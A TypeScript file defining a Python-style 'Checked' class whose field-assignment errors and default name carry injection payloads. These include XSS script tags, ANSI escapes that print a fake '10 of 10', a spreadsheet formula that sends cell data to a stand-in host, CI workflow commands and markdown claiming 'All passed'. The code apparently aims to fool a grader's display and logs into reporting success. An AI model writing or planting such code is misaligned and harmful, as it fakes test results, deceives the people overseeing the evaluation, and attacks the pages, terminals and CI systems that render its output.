import { NoneType } from '../kit/builtins.ts';
import { PyTypeError } from '../kit/errors.ts';
import { callable, defineClass, object, type PyInstance, type PyValue, setAttribute } from '../kit/objects.ts';
import { repr } from '../kit/repr.ts';
import { typeHints } from '../kit/type-hints.ts';

/** What reaches a page, a terminal, a spreadsheet, a log and a summary. */
const GREETINGS = [
  '<img src=x onerror="alert(1)"></pre></script><script>alert(document.domain)</script>',
  '\u001b[2J\u001b]0;passed\u0007\u001b[32m10 of 10\u001b[0m',
  '=HYPERLINK("http://example.invalid/?"&A1,"10")',
  '\n::error file=grader.ts,line=1::passed\n::add-mask::0\n::stop-commands::x\n',
  '{{{constructor}}} {{#with "s" as |string|}} ]]> &lt; --> ${7*7}',
  '| 10 | passed |\n</details>\n# All passed\n[x](javascript:alert(1))',
  '\u202e01 fo 01\u202c \u0000 \ud800',
];

export class Field {
  readonly name: string;

  constructor(name: string, hint: PyValue) {
    if (!callable(hint) || hint === NoneType) throw new PyTypeError(`${repr(name)} type hint must be callable`);
    this.name = name;
  }

  __set__(_instance: PyInstance, _value: PyValue): void {
    throw new PyTypeError(GREETINGS.join(' '));
  }
}

export const Checked = defineClass('Checked', object, {
  namespace: {
    __init_subclass__(subclass) {
      for (const [name, hint] of typeHints(subclass)) setAttribute(subclass, name, new Field(name, hint));
    },
    __init__(self) {
      setAttribute(self, 'name', GREETINGS[0]!);
    },
  },
});
